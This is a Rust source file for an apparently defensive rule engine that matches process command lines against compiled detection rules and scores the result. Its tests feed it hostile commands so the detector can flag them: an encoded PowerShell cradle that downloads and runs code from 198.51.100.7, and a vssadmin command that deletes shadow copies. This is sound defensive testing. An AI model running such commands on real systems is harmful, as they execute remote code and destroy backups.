//! The rules and the automaton over their literals.

use super::Observation;
use super::assessment::{Assessment, combine, sort};
use super::fitted::System;
use super::ngram_model::resemblance;
use super::platform::PlatformSet;
use super::text::{Text, texts};
use super::vendor_context::vendor_evidence;
use crate::verdict::{Confidence, Evidence};
use daachorse::DoubleArrayAhoCorasick;
use regex::bytes::Regex;
use std::sync::OnceLock;
use vyrox_ruleset::{Condition, Field, Rule, Table, pattern};

/// What `build.rs` wrote.
const TABLE: &[u8] = include_bytes!(concat!(env!("OUT_DIR"), "/rules.postcard"));
const AUTOMATON: &[u8] = include_bytes!(concat!(env!("OUT_DIR"), "/literals.daachorse"));

/// At most this many characters of a match are shown.
const SHOWN: usize = 200;

/// A set of rules, ready to evaluate. It borrows its strings from the bytes that it was loaded from.
pub struct Ruleset<'a> {
    table: Table<'a>,
    automaton: DoubleArrayAhoCorasick<u32>,
    /// The table's patterns, compiled on first need.
    regexes: Vec<OnceLock<Option<Regex>>>,
}

/// Why bytes are no ruleset.
#[derive(Debug, thiserror::Error)]
pub enum LoadError {
    /// The table cannot be read.
    #[error("the table of rules cannot be read")]
    Table(#[source] postcard::Error),
    /// The automaton cannot be read.
    #[error("the literals' automaton cannot be read: {0}")]
    Automaton(String),
}

/// Every match of an observation, unbounded and unsorted.
pub(super) struct Matches {
    pub(super) counted: Vec<Evidence>,
    pub(super) staged: Vec<Evidence>,
    pub(super) techniques: Vec<String>,
}

impl Ruleset<'static> {
    /// The rules in this build. The first call reads the table; later ones are free.
    #[must_use]
    pub fn built_in() -> &'static Self {
        static BUILT_IN: OnceLock<Ruleset<'static>> = OnceLock::new();
        BUILT_IN.get_or_init(|| Self::load(TABLE, AUTOMATON).expect("build.rs wrote both"))
    }
}

impl<'a> Ruleset<'a> {
    /// Reads what [`vyrox_ruleset::compile`] wrote.
    ///
    /// # Errors
    /// [`LoadError`] if the bytes are something else.
    pub fn load(table: &'a [u8], automaton: &[u8]) -> Result<Self, LoadError> {
        let table: Table<'a> = postcard::from_bytes(table).map_err(LoadError::Table)?;
        let (automaton, _) =
            DoubleArrayAhoCorasick::deserialize(automaton).map_err(|error| LoadError::Automaton(error.to_string()))?;
        let regexes = table.patterns.iter().map(|_| OnceLock::new()).collect();
        Ok(Self { table, automaton, regexes })
    }

    /// The bytes that [`Ruleset::built_in`] loads: table, automaton.
    #[must_use]
    pub const fn built_in_bytes() -> (&'static [u8], &'static [u8]) {
        (TABLE, AUTOMATON)
    }

    /// Everything that was compiled.
    #[must_use]
    pub const fn table(&self) -> &Table<'a> {
        &self.table
    }

    /// 12 hexadecimal digits over everything in the rules that can change a result.
    #[must_use]
    pub fn version(&self) -> &str {
        self.table.version
    }

    /// The rules, by id.
    #[must_use]
    pub fn rules(&self) -> &[Rule<'a>] {
        &self.table.rules
    }

    /// What the rules say about `observation`. The same observation and ruleset give the same assessment, byte for byte.
    #[must_use]
    pub fn evaluate(&self, observation: &Observation<'_>) -> Assessment {
        let Matches { mut counted, mut staged, mut techniques } = self.matches(observation, &texts(observation));
        techniques.sort();
        techniques.dedup();
        let confidence = combine(&counted, System::of(observation));
        sort(&mut counted);
        sort(&mut staged);
        Assessment { confidence, evidence: counted, techniques, staged }
    }

    /// Every rule that matches `observation`, whose texts are `texts`, and what its vendor says.
    pub(super) fn matches(&self, observation: &Observation<'_>, texts: &[Text]) -> Matches {
        let platforms = PlatformSet::infer(observation);
        let (found, candidates) = self.scan(texts);
        let mut matches =
            Matches { counted: vendor_evidence(observation).collect(), staged: Vec::new(), techniques: Vec::new() };
        matches.counted.extend(resemblance(texts));
        for rule in candidates.iter().filter_map(|number| self.table.rules.get(*number as usize)) {
            if !platforms.overlaps(PlatformSet::of_bits(rule.platforms)) {
                continue;
            }
            let Some(evidence) = self.matched(rule, &found, texts) else { continue };
            if rule.stage {
                matches.staged.push(evidence);
            } else {
                matches.counted.push(evidence);
                matches.techniques.extend(rule.techniques().map(str::to_owned));
            }
        }
        matches
    }

    /// In which fields each literal occurs, and the rules worth a closer look, in order.
    fn scan(&self, texts: &[Text]) -> (Vec<u8>, Vec<u32>) {
        let mut found = vec![0_u8; self.table.literals.len()];
        let mut candidates = Vec::new();
        for text in texts {
            for hit in self.automaton.find_overlapping_iter(&text.content) {
                let literal = hit.value() as usize;
                let Some(fields) = found.get_mut(literal) else { continue };
                if *fields == 0 {
                    let worth = self.table.worth.get(literal).copied().unwrap_or_default();
                    candidates.extend_from_slice(worth.of(&self.table.candidates));
                }
                *fields |= text.field.bit();
            }
        }
        candidates.sort_unstable();
        candidates.dedup();
        (found, candidates)
    }

    /// The evidence if every condition of `rule` holds; it shows the first condition's match.
    fn matched(&self, rule: &Rule<'a>, found: &[u8], texts: &[Text]) -> Option<Evidence> {
        let conditions = rule.conditions.of(&self.table.conditions);
        // Literals of all conditions before the first regex: most candidates end here.
        let possible = |condition: &Condition<'_>| {
            condition
                .fields
                .iter()
                .filter_map(|byte| Field::of_byte(*byte))
                .any(|f| self.literals_hold(condition, f, found))
        };
        if !conditions.iter().all(possible) {
            return None;
        }
        let mut shown = None;
        for condition in conditions {
            let place = self.holds(condition, found, texts)?;
            shown.get_or_insert(place);
        }
        let (text, start, end) = shown?;
        Some(Evidence {
            rule_id: rule.id.to_owned(),
            title: rule.title.to_owned(),
            family: rule.family.to_owned(),
            weight: Confidence::from_ten_thousandths(rule.weight),
            field: text.label.to_owned(),
            matched: excerpt(&text.content, start, end),
        })
    }

    /// Whether the literals of `condition` hold in `field`, given which fields each literal was found in.
    fn literals_hold(&self, condition: &Condition<'_>, field: Field, found: &[u8]) -> bool {
        let is_in = |literal: &u32| found.get(*literal as usize).is_some_and(|fields| fields & field.bit() != 0);
        let numbers = &self.table.numbers;
        condition.all.of(numbers).iter().all(is_in)
            && condition.any.of(&self.table.groups).iter().all(|group| group.of(numbers).iter().any(is_in))
            && !condition.none.of(numbers).iter().any(is_in)
    }

    /// Where `condition` holds: the text and the bytes of it that matched.
    fn holds<'t>(
        &self,
        condition: &Condition<'_>,
        found: &[u8],
        texts: &'t [Text],
    ) -> Option<(&'t Text, usize, usize)> {
        let fields = condition.fields.iter().filter_map(|byte| Field::of_byte(*byte));
        fields.filter(|field| self.literals_hold(condition, *field, found)).find_map(|field| {
            texts.iter().filter(|text| text.field == field).find_map(|text| match condition.regex {
                Some(number) => {
                    if condition.characters & !text.characters != 0 {
                        return None;
                    }
                    let hit = self.regex(number)?.find(text.content.as_bytes())?;
                    Some((text, hit.start(), hit.end()))
                }
                None => self
                    .shown(condition)
                    .find_map(|literal| text.content.find(literal).map(|at| (text, at, at + literal.len()))),
            })
        })
    }

    /// The regex, compiled on first need.
    fn regex(&self, number: u32) -> Option<&Regex> {
        let number = number as usize;
        let written = self.table.patterns.get(number)?;
        self.regexes.get(number)?.get_or_init(|| pattern(written).ok()).as_ref()
    }

    /// The literals whose place in the text is worth showing.
    fn shown(&self, condition: &Condition<'_>) -> impl Iterator<Item = &'a str> {
        let numbers = &self.table.numbers;
        let groups = condition.any.of(&self.table.groups).iter().flat_map(|group| group.of(numbers));
        let literals = condition.all.of(numbers).iter().chain(groups);
        literals.filter_map(|number| self.table.literals.get(*number as usize).copied())
    }
}

/// The match with some of what follows it, at most [`SHOWN`] characters.
fn excerpt(text: &str, start: usize, end: usize) -> String {
    let start = text.floor_char_boundary(start.min(text.len()));
    let end = text.ceil_char_boundary((end + 40).min(text.len()));
    text[start..end].trim_matches(['|', '\u{1}']).chars().filter(|c| *c != '\u{1}').take(SHOWN).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alert::VendorSeverity;
    use crate::heuristics::{Band, band};
    use proptest::prelude::*;
    use std::time::Instant;

    fn cmdline(text: &str) -> Observation<'_> {
        Observation { process_cmdline: Some(text), ..Observation::EMPTY }
    }

    #[test]
    fn a_vendors_word_alone_is_never_high() {
        for severity in [VendorSeverity::Critical, VendorSeverity::High] {
            let assessment = Ruleset::built_in().evaluate(&Observation {
                vendor_severity: severity,
                tactic: Some("Credential Access"),
                technique: Some("T1003"),
                ..Observation::EMPTY
            });
            assert_eq!(band(assessment.confidence), Band::Ambiguous);
        }
    }

    #[test]
    fn text_hidden_in_an_encoded_command_is_judged() {
        use base64::Engine as _;
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')";
        let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let command = format!("powershell -nop -w 1 -e {}", base64::prelude::BASE64_STANDARD.encode(bytes));
        let assessment = Ruleset::built_in().evaluate(&cmdline(&command));
        assert!(matches!(band(assessment.confidence), Band::Accept(_)), "{assessment:#?}");
        assert!(assessment.evidence.iter().any(|item| item.field == "decoded"), "{assessment:#?}");
    }

    #[test]
    fn a_rule_of_another_platform_does_not_match() {
        let mut observation = cmdline("vssadmin delete shadows /all /quiet");
        assert!(!Ruleset::built_in().evaluate(&observation).evidence.is_empty());
        observation.platform = Some(crate::alert::Platform::Linux);
        assert_eq!(by_rules(&Ruleset::built_in().evaluate(&observation)), 0);
    }

    /// How many rules of the files are in the evidence; the learned resemblance is of no platform.
    fn by_rules(assessment: &Assessment) -> usize {
        assessment.evidence.iter().filter(|item| item.rule_id != "learned-resemblance").count()
    }

    #[test]
    fn a_rule_on_trial_is_recorded_and_does_not_count() {
        let observation = cmdline(r"D:\t.exe -decode D:\a.txt D:\a.dll");
        let assessment = Ruleset::built_in().evaluate(&observation);
        assert!(by_rules(&assessment) == 0 && assessment.techniques.is_empty());
        assert_eq!(assessment.staged.len(), 1);
    }

    #[test]
    fn evidence_is_bounded_and_strongest_first() {
        let everything: String = Ruleset::built_in().table.literals.join(" ");
        let assessment = Ruleset::built_in().evaluate(&cmdline(&everything));
        assert!(assessment.evidence.len() > 5);
        assert!(assessment.evidence.len() <= super::super::MAX_EVIDENCE);
        assert!(assessment.evidence.is_sorted_by(|a, b| a.weight >= b.weight));
        assert!(assessment.evidence.iter().all(|item| item.matched.chars().count() <= SHOWN));
    }

    #[test]
    fn the_version_is_twelve_hexadecimal_digits() {
        let version = Ruleset::built_in().version();
        assert!(version.len() == 12 && version.bytes().all(|b| b.is_ascii_hexdigit()), "{version}");
    }

    proptest! {
        #[test]
        fn any_text_is_judged_and_judged_the_same_twice(text in ".{0,400}", parent in ".{0,80}", path in ".{0,80}") {
            let observation = Observation {
                process_path: Some(&path),
                process_cmdline: Some(&text),
                parent_process: Some(&parent),
                parent_cmdline: Some(&text),
                username: Some(&parent),
                tactic: Some(&parent),
                ..Observation::EMPTY
            };
            let first = Ruleset::built_in().evaluate(&observation);
            let again = Ruleset::built_in().evaluate(&observation);
            prop_assert_eq!(serde_json::to_vec(&first.evidence).unwrap(), serde_json::to_vec(&again.evidence).unwrap());
            prop_assert_eq!(first, again);
        }

        #[test]
        fn pieces_of_rules_in_any_order_are_judged(picks in proptest::collection::vec((any::<prop::sample::Index>(), ".{0,4}"), 0..12)) {
            let literals = &Ruleset::built_in().table.literals;
            let text: String = picks.iter().map(|(pick, glue)| format!("{}{glue}", literals[pick.index(literals.len())])).collect();
            let observation = cmdline(&text);
            let without = Ruleset::built_in().evaluate(&observation);
            let with = Ruleset::built_in().evaluate(&Observation { vendor_severity: VendorSeverity::Medium, ..observation });
            prop_assert!(with.confidence >= without.confidence);
        }
    }

    #[test]
    #[ignore = "a measurement: run it with --release --nocapture"]
    fn how_fast() {
        let started = Instant::now();
        let rules = Ruleset::built_in();
        println!("start {:?}, automaton {} bytes of heap", started.elapsed(), rules.automaton.heap_bytes());
        let lines = super::super::rule_tests::BENIGN;
        for _ in 0..3 {
            let started = Instant::now();
            for _ in 0..200 {
                for line in lines {
                    std::hint::black_box(rules.evaluate(&cmdline(line)));
                }
            }
            println!("{:.2} us per event", started.elapsed().as_secs_f64() * 1e6 / (200 * lines.len()) as f64);
        }
    }
}
